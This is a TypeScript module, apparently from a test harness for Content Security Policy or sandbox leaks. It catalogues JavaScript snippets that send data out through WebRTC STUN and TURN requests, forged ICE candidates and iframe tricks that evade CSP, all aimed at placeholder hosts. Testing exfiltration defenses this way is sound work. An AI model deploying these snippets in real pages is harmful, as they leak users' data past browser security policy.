import { ways } from "../way.ts";

const gather = (servers: string, from = "globalThis") => `
  const Peer = ${from}.RTCPeerConnection ?? ${from}.webkitRTCPeerConnection;
  const peer = new Peer({ iceServers: [${servers}] });
  peer.createDataChannel("secret"); await peer.setLocalDescription(await peer.createOffer()); await sleep(500);`;

/**
 * Ways to send data by WebRTC, which contacts STUN and TURN servers without a check by the Content Security
 * Policy.
 */
export const webrtc = ways({
  STUN: gather(`{ urls: "stun:" + udp }`),
  TURN: gather(`{ urls: "turn:" + udp, username: "secret", credential: "x" }`),
  "TURN over TCP": gather(
    `{ urls: "turn:" + new URL(there).host + "?transport=tcp", username: "secret", credential: "x" }`,
  ),
  "a forged ICE candidate": `const peer = new RTCPeerConnection(); const other = new RTCPeerConnection();
    peer.createDataChannel("x"); const offer = await peer.createOffer(); await peer.setLocalDescription(offer);
    await other.setRemoteDescription(offer); const answer = await other.createAnswer(); await peer.setRemoteDescription(answer);
    const [host, port] = udp.split(":"); await peer.addIceCandidate({ candidate: "candidate:1 1 udp 2122260223 " + host + " " + port + " typ host", sdpMid: "0" }); await sleep(500);`,
  "STUN in an empty frame": `const f = document.createElement("iframe"); document.body.append(f);
    ${gather(`{ urls: "stun:" + udp }`, "f.contentWindow")}`,
  "STUN in a frame with srcdoc": {
    code: `const f = document.createElement("iframe");
      const code = URL.createObjectURL(new Blob(["const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:" + udp + "' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"], { type: "text/javascript" }));
      f.srcdoc = '<script src="' + code + '"></' + 'script>'; document.body.append(f); await sleep(700);`,
  },
  "STUN in a frame from markup": {
    code: `const code = URL.createObjectURL(new Blob(["const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:" + udp + "' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"], { type: "text/javascript" }));
      document.body.insertAdjacentHTML("beforeend", '<iframe srcdoc="<script src=' + code + '></script>"></iframe>'); await sleep(700);`,
  },
});
